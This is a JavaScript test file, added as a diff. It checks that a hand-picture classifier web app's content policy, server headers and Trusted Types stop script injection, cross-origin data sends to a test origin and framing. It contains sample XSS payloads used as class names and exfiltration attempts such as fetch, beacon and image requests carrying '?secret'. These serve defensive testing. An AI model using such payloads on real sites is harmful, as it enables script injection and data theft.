@@ -1,0 +1,238 @@
+// Nothing let in, nothing let out: the page's own content policy, the server's headers, and names that are markup.
+
+import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { after, afterEach, test } from "node:test";
+import { screenshot, testWorld, visit } from "./browser.js";
+import { temporaryFolder } from "./files.js";
+import { hand, png } from "./pictures.js";
+import { TestServer, WWW } from "./server.js";
+import { TeachTab, hands } from "./teach.js";
+import { HEADERS, staticFiles } from "../../scripts/serve.js";
+
+/** @typedef {import("puppeteer-core").Page} Page */
+
+const CPU = { query: "?backend=cpu" };
+const write = temporaryFolder();
+const file = write("four.png", png(hand(4, 220, 220)));
+/** @param {number} fingers */
+const files = (fingers) => hands(fingers, 4).map((picture, index) => write(`${fingers}-${index}.png`, png(picture)));
+const fists = files(0);
+const fives = files(5);
+
+const { browser, server } = await testWorld();
+/** Another origin, which notes whoever comes. */
+const elsewhere = await TestServer.start();
+after(() => elsewhere.stop());
+afterEach(() => assert.deepEqual(elsewhere.requests, [], "nothing reached another origin"));
+
+/** Notes what the content policy forbids, from the first script on. @param {Page} page */
+const noteViolations = (page) => page.evaluateOnNewDocument(() => {
+  const noted = /** @type {{ violations: string[] }} */ (/** @type {unknown} */ (globalThis));
+  noted.violations = [];
+  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => noted.violations.push(effectiveDirective));
+});
+
+/** @type {[name: string, directive: string, attempt: (elsewhere: string) => unknown][]} */
+const ATTEMPTS = [
+  ["a script that is written", "require-trusted-types-for", () => {
+    const script = document.createElement("script");
+    script.append("globalThis.intruded = true");
+    document.head.append(script);
+  }],
+  ["an inline handler", "require-trusted-types-for", () => {
+    const image = document.createElement("img");
+    image.setAttribute("onerror", "globalThis.intruded = true");
+    image.src = "no-such-picture.png";
+    document.body.append(image);
+  }],
+  ["a script from elsewhere", "script-src-elem", (elsewhere) => import(`${elsewhere}/a.js`)],
+  ["text evaluated as a script", "require-trusted-types-for", () => {
+    (0, eval)("globalThis.intruded = true");
+  }],
+  ["markup from a string", "require-trusted-types-for", () => {
+    document.body.innerHTML = '<img src="x" onerror="globalThis.intruded = true">';
+  }],
+  ["a worker of a script that is not the page's", "require-trusted-types-for", () => {
+    new Worker("look.js");
+  }],
+  ["a policy that would allow one", "trusted-types", () => {
+    /** @type {any} */ (globalThis).trustedTypes.createPolicy("other", { createScriptURL: String });
+  }],
+  ["a fetch", "connect-src", (elsewhere) => fetch(`${elsewhere}/?secret`)],
+  ["a beacon", "connect-src", (elsewhere) => navigator.sendBeacon(`${elsewhere}/?secret`)],
+  ["a socket", "connect-src", (elsewhere) => new WebSocket(elsewhere.replace("http", "ws"))],
+  ["a picture", "img-src", (elsewhere) => { new Image().src = `${elsewhere}/?secret`; }],
+  ["a style", "style-src-elem", (elsewhere) => {
+    document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${elsewhere}/a.css` }));
+  }],
+  ["an inline style", "style-src-attr", () => { document.body.setAttribute("style", "background: red"); }],
+  ["a frame", "frame-src", (elsewhere) => { document.body.append(Object.assign(document.createElement("iframe"), { src: elsewhere })); }],
+  ["a font", "font-src", (elsewhere) => { void new FontFace("a", `url(${elsewhere}/a.woff2)`).load().catch(() => {}); }],
+  ["a video", "media-src", (elsewhere) => { document.createElement("video").src = `${elsewhere}/a.mp4`; }],
+  ["a form", "form-action", (elsewhere) => {
+    const form = Object.assign(document.createElement("form"), { action: elsewhere, method: "post" });
+    document.body.append(form);
+    form.submit();
+  }],
+  ["another base for every address", "base-uri", (elsewhere) => {
+    document.head.append(Object.assign(document.createElement("base"), { href: elsewhere }));
+  }],
+];
+
+test("the page's own policy, without a word from the server, stops what is injected and what wants out", async () => {
+  server.policy = null;
+  server.serve = staticFiles(WWW, {});
+  const options = {
+    ...CPU,
+    forbidden: elsewhere.origin,
+    expectedErrors: [/Content Security Policy|Trusted|document's base|violates|ERR_BLOCKED_BY_CSP|no-such-picture/],
+    before: noteViolations,
+  };
+  await visit(browser, server, options, async (signet) => {
+    await signet.ready();
+    const violations = () => signet.page.evaluate(() => /** @type {any} */ (globalThis).violations.splice(0));
+    assert.deepEqual(await violations(), [], "the page itself stays inside of its policy");
+    for (const [name, directive, attempt] of ATTEMPTS) {
+      // Later, by itself: what DevTools call directly may do what a page may not.
+      await signet.page.evaluate(`void setTimeout(async () => { try { await (${attempt})("${elsewhere.origin}"); } catch {} })`);
+      const noted = await signet.until(`${name} to be stopped`, async () => {
+        const found = await violations();
+        return found.length > 0 ? found : undefined;
+      }, 5_000);
+      assert.ok(noted.includes(directive), `${name}: ${noted}`);
+    }
+    assert.equal(await signet.page.evaluate(() => "intruded" in globalThis), false);
+    await signet.click("mode-upload");
+    await signet.upload(file);
+  });
+});
+
+test("scripts that came with the page on its way are not run", async () => {
+  server.policy = null;
+  server.serve = staticFiles(WWW, {});
+  const page = readFileSync(`${WWW}/index.html`, "utf8").replace("</body>", `<script>globalThis.intruded = true;</script>
+    <img src="no-such-picture.png" alt="" onerror="globalThis.intruded = true"></body>`);
+  server.replace("/", (_, response) => response.writeHead(200, { "Content-Type": "text/html" }).end(page));
+  const options = { ...CPU, expectedErrors: [/Content Security Policy|violates|ERR_BLOCKED_BY_CSP|no-such-picture/], before: noteViolations };
+  await visit(browser, server, options, async (signet) => {
+    await signet.ready();
+    const violations = await signet.page.evaluate(() => /** @type {any} */ (globalThis).violations);
+    assert.deepEqual(violations.sort(), ["script-src-attr", "script-src-elem"]);
+    assert.equal(await signet.page.evaluate(() => "intruded" in globalThis), false);
+  });
+});
+
+test("with the headers of its own server all of it works: classifying, teaching, the service worker", async () => {
+  server.policy = null;
+  await visit(browser, server, { ...CPU, serviceWorker: true, before: noteViolations }, async (signet) => {
+    const tab = await TeachTab.open(signet);
+    await tab.upload("0", fists);
+    await tab.upload("5", fives);
+    await tab.train({ epochs: 2 });
+    await tab.classify(file);
+    await signet.until("Available offline", async () => ((await tab.text("offline-status")) ? true : undefined), 120_000);
+    assert.deepEqual(await signet.page.evaluate(() => /** @type {any} */ (globalThis).violations), []);
+    const allowed = await signet.page.evaluate(() => {
+      const { featurePolicy } = /** @type {{ featurePolicy: { allowsFeature(name: string): boolean } }} */ (/** @type {unknown} */ (document));
+      return ["camera", "microphone", "geolocation", "usb"].filter((name) => featurePolicy.allowsFeature(name));
+    });
+    assert.deepEqual(allowed, ["camera"]);
+    // What the service worker has stored has them, too.
+    await signet.page.reload();
+    await signet.ready();
+    const headers = await signet.page.evaluate(async () => Object.fromEntries((await fetch("./")).headers));
+    for (const [name, value] of Object.entries(HEADERS)) assert.equal(headers[name.toLowerCase()], value);
+  });
+});
+
+test("a worker, which no page's policy binds, is bound by the server's", async () => {
+  server.policy = null;
+  server.replace("/worker.js", (_, response) => {
+    for (const [name, value] of Object.entries(HEADERS)) response.setHeader(name, value);
+    response.writeHead(200, { "Content-Type": "text/javascript" }).end(`
+      addEventListener("message", async ({ data }) => {
+        const got = await fetch("${elsewhere.origin}/?secret").then(() => "answered", () => "refused");
+        postMessage({ id: data.id, ok: false, error: { code: "unexpected", message: got } });
+      });
+      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => console.info("stopped by " + effectiveDirective));`);
+  });
+  await visit(browser, server, { ...CPU, expectedErrors: [/violates|Content Security Policy/] }, async (signet) => {
+    const stopped = new Promise((resolve) => signet.page.on("console", (message) => {
+      if (message.text() === "stopped by connect-src") resolve(true);
+    }));
+    await signet.failure(/^unexpected$/);
+    await stopped;
+  });
+});
+
+test("no other site can show the page in a frame", async () => {
+  server.policy = null;
+  server.replace("/frame.html", (_, response) => response.writeHead(200, { "Content-Type": "text/html" })
+    .end(`<!doctype html><link rel="icon" href="data:,"><iframe src="${server.origin}/"></iframe>`));
+  const context = await browser.createBrowserContext();
+  try {
+    const page = await context.newPage();
+    const refused = new Promise((resolve) => page.on("console", (message) => {
+      if (/frame-ancestors/.test(message.text())) resolve(true);
+    }));
+    await page.goto(`${server.insecureOrigin}/frame.html`);
+    await refused;
+  } finally {
+    await context.close();
+  }
+});
+
+test("class names that are markup are text, wherever they come from: typed, a project, a model, both after a reload", async () => {
+  const names = ['<img src=x onerror="intruded=1">', "</script><svg/onload=intruded=1>&lt;"];
+  const [first = "", second = ""] = names;
+  let project = "";
+  let model = "";
+  /** @param {import("./signet.js").Signet} signet */
+  const isText = async (signet) => {
+    const found = await signet.page.evaluate(() => ({
+      intruded: "intruded" in globalThis,
+      elements: document.querySelectorAll("img[src=x], [onerror], [onload], body svg[onload]").length,
+      // Names that stand in attributes stand there, too.
+      text: document.body.innerText + [...document.querySelectorAll("input")].map(({ value }) => value).join("\n"),
+    }));
+    assert.equal(found.intruded, false);
+    assert.equal(found.elements, 0);
+    for (const name of names) assert.ok(found.text.includes(name), `${name} is shown as it is`);
+  };
+  await visit(browser, server, CPU, async (signet) => {
+    const tab = await TeachTab.open(signet);
+    await tab.keepOnly(["0", "5"]);
+    await tab.rename("0", first);
+    await tab.rename("5", second);
+    await tab.becomes("the names", () => tab.labels(), names);
+    await tab.upload(first, fists);
+    await tab.upload(second, fives);
+    await tab.train({ epochs: 5 });
+    await tab.usesLabels(names);
+    await tab.classify(file);
+    await isText(signet);
+    await screenshot(signet.page, "privacy-names");
+    await tab.kept(8, ["project", "taught"]);
+    [project, model] = [await tab.saveProject(), await tab.exportModel()];
+    await signet.page.reload();
+    await TeachTab.open(signet);
+    await tab.usesLabels(names);
+    await isText(signet);
+  });
+  await visit(browser, server, CPU, async (signet) => {
+    const tab = await TeachTab.open(signet);
+    await tab.openProject(project);
+    await tab.becomes("the names", () => tab.labels(), names);
+    await tab.usesLabels(names);
+    await tab.classify(file);
+    await isText(signet);
+  });
+  await visit(browser, server, CPU, async (signet) => {
+    const tab = await TeachTab.open(signet);
+    await tab.importModel(model);
+    await tab.usesLabels(names);
+    await tab.classify(file);
+    await isText(signet);
+  });
+});
